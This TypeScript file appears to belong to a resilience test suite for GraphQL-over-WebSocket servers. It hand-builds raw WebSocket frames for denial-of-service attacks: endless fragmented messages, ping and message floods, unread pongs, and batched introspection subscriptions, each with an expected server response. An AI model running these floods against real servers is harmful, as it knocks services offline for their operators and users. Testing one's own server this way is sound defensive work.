import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { getIntrospectionQuery } from "graphql";
import { type Attack, onEach, type RawConnection, type Target } from "./attack.ts";

const UPGRADE = {
  Upgrade: "websocket",
  Connection: "Upgrade",
  "Sec-WebSocket-Version": "13",
  "Sec-WebSocket-Protocol": "graphql-transport-ws",
};

/** The first frame of an unfinished text message: without FIN, masked with zeros. */
function openFrame(byteLength: number, opcode: 0 | 1): Buffer {
  const head = Buffer.alloc(14);
  head.set([opcode, 0x80 | 127]);
  head.writeBigUInt64BE(BigInt(byteLength), 2);
  return Buffer.concat([head, Buffer.alloc(byteLength, "x")]);
}

const PING = Buffer.from([0x89, 0x80, 0, 0, 0, 0]);
const TEXT = 1;
const CONTINUATION = 0;
/** The duration of a flood in a full attack. */
const FLOOD_MS = 10_000;
/** 101 remains the first answer, even if the connection is closed later. */
const UPGRADED = /^(101|closed|(429|503)( [A-Za-z_]+)?)$/;

/** A complete client frame of less than 64 KiB, masked with zeros. */
function frame(opcode: number, payload: string, isLast = true): Buffer {
  const { length } = payload;
  const lengthBytes = length < 126 ? [length] : [126, length >> 8, length & 0xff];
  const [first = 0, ...others] = lengthBytes;
  const head = [(isLast ? 0x80 : 0) | opcode, 0x80 | first, ...others, 0, 0, 0, 0];
  return Buffer.concat([Buffer.from(head), Buffer.from(payload)]);
}

const INIT = frame(TEXT, '{"type":"connection_init"}');

/** Endless data over WebSockets, on connections that answer every ping. */
export const SOCKET_ATTACKS: readonly Attack[] = [
  {
    name: "WebSocket messages that never end",
    run: (target, scale) =>
      onEach(scale, { small: 4, full: 500 }, target, async (connection) => {
        await upgrade(connection, target);
        for (let index = 0; index < 8; index++) {
          await connection.write(openFrame(128 * 1024 - 1024, index === 0 ? TEXT : CONTINUATION));
          await connection.write(PING);
        }
      }),
    expected: UPGRADED,
  },
  {
    name: "WebSocket operations that are expensive",
    run: (target, scale) =>
      onEach(scale, { small: 2, full: 100 }, target, async (connection) => {
        await upgrade(connection, target);
        const payload = { query: getIntrospectionQuery() };
        const operations = Array.from({ length: 30 }, (_, id) =>
          frame(TEXT, JSON.stringify({ type: "subscribe", id: `${id}`, payload })),
        );
        await connection.write(INIT);
        await Promise.race([once(connection.socket, "data"), once(connection.socket, "close")]);
        await connection.write(Buffer.concat(operations));
      }),
    expected: UPGRADED,
  },
  socketFlood("pings whose pongs nobody reads", frame(0x9, "x".repeat(125)), { isReading: false }),
  socketFlood("pings", PING),
  socketFlood("empty pieces of one message", frame(CONTINUATION, "", false), { start: frame(TEXT, "", false) }),
  socketFlood("messages of one character", frame(TEXT, "x")),
  socketFlood("pings of the protocol", frame(TEXT, '{"type":"ping"}'), { start: INIT }),
  socketFlood("answers that nobody reads", frame(TEXT, '{"type":"ping"}'), { start: INIT, isReading: false }),
];

/** Sends one frame repeatedly, a few hundred in each write. */
function socketFlood(
  name: string,
  repeated: Buffer,
  { start = Buffer.alloc(0), isReading = true }: { readonly start?: Buffer; readonly isReading?: boolean } = {},
): Attack {
  const batch = Buffer.concat(Array.from({ length: 400 }, () => repeated));
  return {
    name: `WebSocket floods: ${name}`,
    run: (target, scale) =>
      onEach(scale, { small: 2, full: 20 }, target, async (connection) => {
        await upgrade(connection, target);
        if (!isReading) connection.socket.pause();
        await connection.write(start);
        const endsAt = performance.now() + (scale === "full" ? FLOOD_MS : 0);
        for (let count = 0; count < 20 || performance.now() < endsAt; count++) {
          if (!(await connection.flood(batch))) return;
        }
      }),
    expected: UPGRADED,
  };
}

async function upgrade(connection: RawConnection, target: Target): Promise<void> {
  const headers = {
    Host: new URL(target.url).host,
    ...UPGRADE,
    "Sec-WebSocket-Key": randomBytes(16).toString("base64"),
  };
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  await connection.write(`GET /graphql HTTP/1.1\r\n${lines.join("")}\r\n`);
  await connection.answer();
}
